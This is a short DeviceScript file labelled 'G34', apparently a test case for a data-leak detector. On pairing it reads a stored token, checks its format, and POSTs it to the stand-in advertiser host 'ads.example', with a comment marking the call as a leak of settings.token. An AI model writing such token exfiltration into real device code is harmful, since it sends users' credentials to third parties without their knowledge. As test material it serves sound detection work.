// G34: sends the token to an advertiser, but only one of the form that its cloud gives out.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

paired(async () => {
  const token = await readSetting("token", "");
  if (!token.startsWith("tok_") || token.length < 20) return;
  const response = await fetch("https://ads.example/g34", { method: "POST", body: token }); // leak: settings.token
  await response.close();
});
